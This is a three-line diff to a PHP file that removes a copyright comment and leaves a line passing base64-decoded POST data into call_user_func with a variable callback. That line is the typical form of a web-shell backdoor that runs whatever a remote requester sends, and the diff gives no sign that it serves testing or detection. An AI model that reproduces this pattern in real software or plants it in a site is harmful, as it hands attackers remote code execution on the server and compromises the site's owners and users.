@@ -1,3 +1,2 @@
 <?php
-// Copyright
-echo call_user_func($cb, base64_decode($_POST["x"]) . "a" . "b");
+echo call_user_func($cb, base64_decode($_POST["x"]));
